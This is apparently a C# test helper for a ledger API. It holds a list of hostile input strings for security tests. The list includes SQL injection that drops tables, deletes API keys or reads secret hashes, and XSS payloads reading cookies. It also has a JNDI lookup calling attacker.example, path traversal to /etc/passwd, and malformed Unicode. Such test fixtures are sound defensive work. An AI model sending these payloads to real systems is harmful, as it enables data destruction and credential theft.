namespace Ledger.Api.Tests.Security;

/// <summary>Strings attackers put in fields, headers and paths: SQL, HTML/script, template and path injection, odd Unicode.</summary>
internal static class HostileStrings
{
    public static readonly string[] All =
    [
        "' OR '1'='1",
        "'; DROP TABLE records; --",
        "\" OR 1=1 --",
        "1; DELETE FROM api_keys WHERE 1=1",
        "' UNION SELECT secret_hash, role FROM api_keys --",
        "Robert'); UPDATE records SET status='confirmed'; --",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "javascript:alert(1)",
        "{{7*7}}${7*7}<%= 7*7 %>",
        "${jndi:ldap://attacker.example/a}",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%00%0d%0a",
        "\u0000\u0001\u001b[31m",
        "\u202e\u200b\ufeff",
        "\ud800 lone surrogate",
        "𝕏😀 中文 ☃",
        "null",
        "true",
        "-1",
        "1e400",
        "0x",
        "NaN",
    ];

    public static string Pick(Random rng) => All[rng.Next(All.Length)];

    /// <summary>A hostile string for a URL path: without NUL, which no server lets through (the test host throws on it).</summary>
    public static string PickForPath(Random rng) => Pick(rng).Replace("\u0000", "", StringComparison.Ordinal);

    /// <summary>A hostile string that is also safe inside an HTTP header value (no control or non-ASCII characters).</summary>
    public static string PickForHeader(Random rng)
    {
        var text = Pick(rng);
        return new string([.. text.Where(c => c is >= ' ' and <= '~')]);
    }
}
